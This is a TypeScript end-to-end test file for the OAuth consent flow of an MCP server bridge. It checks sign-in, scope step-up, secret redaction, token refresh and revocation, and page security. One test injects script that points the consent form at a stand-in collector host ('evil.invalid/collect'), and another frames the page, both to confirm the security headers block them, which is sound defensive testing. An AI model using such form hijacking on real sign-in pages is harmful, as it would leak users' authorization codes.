import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { secrets } from '../../agents-sim/scenarios/leaky.ts';
import { type Kept, legacyClient, modernClient, type SigningClient } from '../oauth/sdk-clients.ts';
import { chromiumPath, openChromium, picture, type Seat, takeSeat, violations } from './sign-in-browser.ts';
import { documentName, documentUrl } from './sign-in-program.ts';
import { knownClient, onSignIn, press, type SignInWorld, signInWorld, toConsent, way } from './sign-in-world.ts';
import type { Structured } from './world.ts';

/** Far less than a wait or a stream lasts by itself, on a machine however busy. */
const soonMs = 15_000;

let world: SignInWorld;
let browser: Browser;
let seat: Seat;
beforeAll(async () => {
  if (chromiumPath === undefined) return;
  [world, browser] = await Promise.all([signInWorld(), openChromium()]);
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await world?.close();
});
beforeEach(async () => {
  if (chromiumPath === undefined) return;
  seat = await takeSeat(browser);
  world.company.next = 'dev';
  world.company.asks = true;
});
afterEach(async () => {
  vi.useRealTimers();
  await seat?.close();
});

const structured = (answer: { structuredContent?: unknown }) => answer.structuredContent as Structured;
const tokensOf = ({ kept }: SigningClient) => kept.tokens as Required<NonNullable<Kept['tokens']>>;
const textOf = ({ page }: Seat) => page.locator('main').innerText();

/** The consent page for a client that registers with this redirect URI. */
async function consentFor(redirectUri = world.program.redirectUri, at = seat): Promise<void> {
  const { body } = await world.hand.register({ redirect_uris: [redirectUri] });
  await toConsent(at, world.hand.authorizeUrl(String(body.client_id), { redirect_uri: redirectUri }).url);
}

/** Calls a tool by hand and leaves the stream of its answer open; `over` is all that came, once it ended. */
async function openStream(token: string, args: Record<string, unknown>): Promise<{ over: Promise<string> }> {
  const response = await fetch(world.bridge.mcpUrl, {
    method: 'POST',
    headers: {
      ...{ Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      Accept: 'application/json, text/event-stream',
    },
    body: JSON.stringify({
      ...{ jsonrpc: '2.0', id: 1, method: 'tools/call' },
      params: { name: 'take_snapshot', arguments: args },
    }),
  });
  expect(response.headers.get('content-type')).toContain('text/event-stream');
  return { over: response.text() };
}

describe.skipIf(chromiumPath === undefined)('a person at a browser', () => {
  describe.each([
    { sdk: 'v1', open: legacyClient, registers: 'registers itself', document: undefined },
    { sdk: 'v2', open: modernClient, registers: 'registers itself', document: undefined },
    { sdk: 'v1', open: legacyClient, registers: 'shows a document', document: documentUrl },
    { sdk: 'v2', open: modernClient, registers: 'shows a document', document: documentUrl },
  ])('with a client of the $sdk SDK that $registers', ({ open, document, sdk }) => {
    it('signs in, steps up, reads values, stays in by refreshing, and is out everywhere once it is taken back', async () => {
      const { bridge, program, hand } = world;
      const consented: string[] = [];
      const visit = way(program, seat, async (at) => {
        consented.push(await textOf(at));
        await picture(at.page, `consent-${document === undefined ? 'self-registered' : 'document'}-${consented.length}`);
        await press('Allow')(at);
      });
      const client = open(bridge.mcpUrl, undefined, {
        ...{ ...visit, name: `Client ${sdk}`, ...(document !== undefined && { documentUrl: document }) },
        async signIn(url) {
          if (consented.length === 0) url.searchParams.set('scope', 'runtime:read'); // its host asks for little at first
          return visit.signIn(url);
        },
      });
      await client.connect();
      expect(client.kept.client?.client_id).toMatch(document ?? /^client_/);
      expect(consented).toHaveLength(1);
      expect(consented[0]).not.toContain('runtime:capture');
      expect(structured(await client.call('list_sources')).services).toMatchObject([{ service: 'sign-in' }]);

      // Something it did not ask for: once more to the browser, where the company knows the person by now.
      const read = await client.call('take_snapshot', onSignIn);
      expect(consented).toHaveLength(2);
      expect(consented[1]).toContain('runtime:capture');
      expect(tokensOf(client).scope.split(' ')).toEqual(expect.arrayContaining(['runtime:read', 'runtime:capture']));
      expect(structured(read)).toMatchObject({ status: 'completed', hitCount: 1 });
      expect(structured(read).hits[0]?.expressions[0]?.value).toMatch(/^\[REDACTED:email/);
      expect(structured(read).hits[0]?.variables).toMatchObject({ user: { name: 'Maria' } });
      for (const secret of [secrets.password, secrets.jwt, secrets.card]) expect(JSON.stringify(read)).not.toContain(secret);

      const { access_token: first } = tokensOf(client);
      vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 3_601_000 });
      expect((await hand.call(first)).status).toBe(401);
      expect((await client.call('get_status')).isError ?? false).toBe(false);
      vi.useRealTimers();
      const { access_token: second, refresh_token: refresh } = tokensOf(client);
      expect(second).not.toBe(first);
      expect(consented).toHaveLength(2);

      const nobody = { ...onSignIn, condition: "user.name === 'nobody'", waitSeconds: 60 };
      const stream = await openStream(second, nobody);
      const wait = client.call('take_snapshot', nobody);
      await vi.waitUntil(() => world.agent.probes.armed === 2, 10_000);
      const revokedAtMs = performance.now();
      expect(await hand.revoke(refresh, client.kept.client?.client_id ?? '')).toBe(200);
      expect((await hand.call(second)).status).toBe(401);
      expect(structured(await wait).error).toMatchObject({ code: 'invalid_token' });
      expect(await stream.over).toContain('invalid_token');
      expect(performance.now() - revokedAtMs).toBeLessThan(soonMs);
      await vi.waitUntil(() => world.agent.probes.armed === 0, 10_000);
      expect(await hand.refresh(refresh, client.kept.client?.client_id ?? '')).toMatchObject({ error: 'invalid_grant' });
      expect(program.documentsServed > 0).toBe(document !== undefined);
      await client.close();
    });
  });

  it('reads in the first refusal that their client needs no key', async () => {
    const response = await fetch(world.bridge.mcpUrl, { method: 'POST', body: '{}' });
    expect(response.status).toBe(401);
    expect(JSON.stringify(await response.json())).toContain('A client that can sign in needs the URL alone.');
  });

  it('presses Deny, and the client is told so', async () => {
    const client = modernClient(world.bridge.mcpUrl, undefined, way(world.program, seat, press('Deny')));
    await expect(client.connect()).rejects.toThrow(/access_denied|did not consent/);
    expect(client.kept.tokens).toBeUndefined();
    await client.close();
  });

  it('reads on the consent page who asks, for what, where the answer goes and as whom', async () => {
    await consentFor();
    const text = await textOf(seat);
    for (const part of [
      ...['By hand wants to use Sidelight as you', 'Third party: registered itself, name not verified'],
      ...['See what runs and what was captured', 'Read variables of running programs', world.program.redirectUri],
      ...['Dana Developer (dana@example.com)', 'default', 'Developer', 'payments'],
    ]) {
      expect(text).toContain(part);
    }
    const asks = { client_id: documentUrl, redirect_uri: world.program.redirectUri };
    await toConsent(seat, world.hand.authorizeUrl(documentUrl, asks).url);
    expect(await textOf(seat)).toContain(
      `${documentName} wants to use Sidelight as you\n\nThird party, described at ${documentUrl}`,
    );
    await toConsent(seat, world.hand.authorizeUrl(knownClient, { redirect_uri: world.program.redirectUri }).url);
    expect(await textOf(seat)).toContain('Set up by the operator of this Sidelight');
    await picture(seat.page, 'consent-known');
    expect(seat.said).toEqual([]);
  });

  it('needs no mouse', async () => {
    world.company.asks = false;
    const answer = world.program.answer();
    await consentFor();
    const { keyboard } = seat.page;
    const focused = () =>
      seat.page.evaluate<string[]>('[document.activeElement.value, getComputedStyle(document.activeElement).outlineStyle]');
    await keyboard.press('Tab');
    expect(await focused()).toEqual(['allow', 'solid']);
    await picture(seat.page, 'consent-focus');
    await keyboard.press('Tab');
    expect(await focused()).toEqual(['deny', 'solid']);
    await keyboard.press('Shift+Tab');
    await keyboard.press('Enter');
    expect((await answer).get('code')).toMatch(/^slc_/);
  });

  it('is asked for themselves when somebody else signed in with the same browser and client before', async () => {
    const people: string[] = [];
    const visit = way(world.program, seat, async (at) => {
      people.push(await textOf(at));
      await press('Allow')(at);
    });
    const dana = modernClient(world.bridge.mcpUrl, undefined, visit);
    await dana.connect();
    world.company.next = 'lead';
    const gil = modernClient(world.bridge.mcpUrl, { client: dana.kept.client, asked: [], verifier: '' }, visit);
    await gil.connect();
    expect(people).toEqual([expect.stringContaining('Dana Developer'), expect.stringContaining('Gil Groupadmin')]);
    const callers = await Promise.all([dana, gil].map(async (client) => (await client.call('get_status')).structuredContent));
    expect(callers).toMatchObject([{ caller: { role: 'developer' } }, { caller: { role: 'group_admin' } }]);
    await Promise.all([dana.close(), gil.close()]);
  });

  it.each([
    'http://127.0.0.1:9/answer',
    'http://localhost:9/answer',
    'http://[::1]:9/answer',
    'https://claude.ai/api/mcp/auth_callback',
    'cursor://anysphere.cursor-mcp/oauth/callback',
  ])('is led to the client at %s, and nothing of ours forbids it', async (redirectUri) => {
    await consentFor(redirectUri);
    const left = seat.page.waitForRequest((request) => request.url().startsWith(redirectUri));
    await seat.page.getByRole('button', { name: 'Allow' }).click({ noWaitAfter: true });
    const { searchParams } = new URL((await left).url());
    expect(Object.fromEntries(searchParams)).toEqual({
      code: expect.stringMatching(/^slc_/),
      state: 'the-state',
      iss: world.bridge.url.origin,
    });
    expect(violations(seat)).toEqual([]);
  });

  it('is not led anywhere else, whatever the form was made to say', async () => {
    await consentFor('https://claude.ai/api/mcp/auth_callback');
    await seat.page.evaluate(`document.querySelector('form').action = 'https://evil.invalid/collect'`);
    await seat.page.getByRole('button', { name: 'Allow' }).click({ noWaitAfter: true });
    await expect.poll(() => violations(seat).join()).toContain('form-action');
    expect(seat.asked.filter((url) => url.includes('evil.invalid'))).toEqual([]);
  });

  it('has a page that fits a phone, is dark where they like it so, and is not shown in a frame', async () => {
    const phone = await takeSeat(browser, { viewport: { width: 375, height: 740 } });
    const { page } = phone;
    await consentFor('cursor://anysphere.cursor-mcp/oauth/callback', phone);
    await picture(page, 'consent-phone');
    expect(await page.evaluate('document.documentElement.scrollWidth <= window.innerWidth')).toBe(true);
    expect(await page.evaluate(`getComputedStyle(document.querySelector('button.main')).backgroundColor`)).toBe(
      'rgb(11, 92, 173)',
    );
    await page.emulateMedia({ colorScheme: 'dark' });
    await picture(page, 'consent-dark');
    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(16, 21, 28)');
    expect(phone.said).toEqual([]);
    const framed = page.url();
    await page.goto(`${world.program.origin}/callback`);
    await page.evaluate(`document.body.innerHTML = '<iframe src="${framed}"></iframe>'`);
    await expect.poll(() => phone.said.join()).toContain('frame-ancestors');
    await phone.close();
  });

  it.each([
    { what: 'a client that nobody knows', open: () => world.hand.authorizeUrl('client_nobody').url.href, says: 'cannot begin' },
    { what: 'a sign-in that is over', open: () => `${world.bridge.url.origin}/oauth/interaction/none`, says: 'is over' },
  ])('is told in words what is wrong with $what', async ({ what, open, says }) => {
    await seat.page.goto(open());
    expect(await seat.page.title()).toContain(says);
    expect(violations(seat)).toEqual([]);
    await picture(seat.page, `problem-${what.replaceAll(' ', '-')}`);
  });

  it('is told why they are not let in, and can go back to their client', async () => {
    world.company.next = 'guest';
    world.company.asks = false;
    const { body } = await world.hand.register({ redirect_uris: [world.program.redirectUri] });
    const answer = world.program.answer();
    await seat.page.goto(world.hand.authorizeUrl(String(body.client_id), { redirect_uri: world.program.redirectUri }).url.href);
    expect(await textOf(seat)).toContain('You are not let in');
    await picture(seat.page, 'problem-not-let-in');
    await seat.page.getByRole('button', { name: 'Back to By hand' }).click();
    expect((await answer).get('error')).toBe('access_denied');
    expect(violations(seat)).toEqual([]);
  });
});
